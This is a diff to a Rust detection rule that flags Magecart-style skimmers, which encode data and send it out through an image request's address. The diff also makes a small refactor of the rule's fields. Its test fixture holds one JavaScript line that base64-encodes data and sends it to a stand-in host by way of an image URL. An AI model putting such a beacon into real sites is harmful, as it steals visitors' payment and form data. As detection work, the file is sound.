@@ -1,6 +1,7 @@
 //! `data-in-image-address`.
 
-use crate::signals::{Atom, Signal, one};
+use crate::facts::Atom;
+use crate::signals::{Signal, one};
 use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
@@ -10,6 +11,7 @@ pub(super) const SIGNAL: Signal = Signal {
     classes: ClassSet::MAGECART,
     needs: &[one(&[Atom::Image]), one(&[Atom::Base64Encode, Atom::Encrypt]), one(&[Atom::AddressFromData])],
     within: 80,
+    only_if: None,
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &["var i=new Image;i.src='//c.example/p.gif?'+btoa(s)"],
